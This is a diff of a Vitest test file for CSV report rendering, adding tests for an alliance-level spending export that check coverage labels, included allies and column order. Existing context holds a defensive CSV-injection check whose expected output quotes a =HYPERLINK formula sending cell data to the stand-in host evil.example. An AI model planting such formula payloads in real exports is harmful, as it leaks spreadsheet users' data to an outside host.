@@ -1,5 +1,5 @@
 import { describe, it, expect } from 'vitest';
-import { CSV_COLUMNS, renderCsv } from '../../../shared/report/index.ts';
+import { ALLIANCE_CSV_COLUMNS, CSV_COLUMNS, renderAllianceCsv, renderCsv } from '../../../shared/report/index.ts';
 import { parseCsv } from '../../helpers/csv-parse.ts';
 import { makeDataset } from '../../helpers/dataset.ts';
 import { HOSTILE, hostileDataset } from '../../helpers/hostile.ts';
@@ -57,5 +57,40 @@ describe('renderCsv', () => {
     expect(alb2024!.submission_id).toBe(`'${HOSTILE.atSubmission}`);
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
     expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
+  });
+});
+
+describe('renderAllianceCsv', () => {
+  it('writes every year, group and basis, marks the basis the reports show, and names each sum by its coverage', () => {
+    // Prepare: the fixture's current basis lacks ALB and DEU after 2024; 2024 rates cover everyone
+    const dataset = makeDataset();
+
+    // Act
+    const rows = read(renderAllianceCsv(dataset));
+
+    // Assess: 3 years × 2 groups × 2 bases
+    expect(rows).toHaveLength(12);
+    const at = (year: string, group: string, basis: string) => rows.find((r) => r.year === year && r.group === group && r.basis === basis)!;
+    expect(at('2026', 'all_allies', 'current')).toMatchObject({
+      presented: 'false',
+      label: "Sum over 1 of 3 allies (USA), not the Alliance's figure",
+      allies_included: '1',
+      allies_expected: '3',
+      coverage_rule_met: 'false',
+      allies: 'USA',
+      left_out: 'ALB: no exchange rate in 2026; DEU: no exchange rate in 2026',
+    });
+    expect(at('2026', 'all_allies', 'constant')).toMatchObject({ presented: 'true', label: 'Alliance', rate_year: '2024', coverage_rule_met: 'true' });
+    expect(at('2024', 'europe_canada', 'current')).toMatchObject({ presented: 'true', label: 'Europe and Canada', rate_year: '' });
+    expect(Number(at('2026', 'all_allies', 'constant').core_pct)).toBe(dataset.alliance.years.find((y) => y.year === 2026)?.all.constant.corePct);
+    expect(rows.filter((r) => r.presented === 'true').every((r) => r.coverage_rule_met === 'true')).toBe(true);
+  });
+
+  it('uses the columns it declares, in order', () => {
+    // Act
+    const [header] = parseCsv(renderAllianceCsv(makeDataset()).toString('utf8'));
+
+    // Assess
+    expect(header).toEqual(ALLIANCE_CSV_COLUMNS.map((c) => c.name));
   });
 });
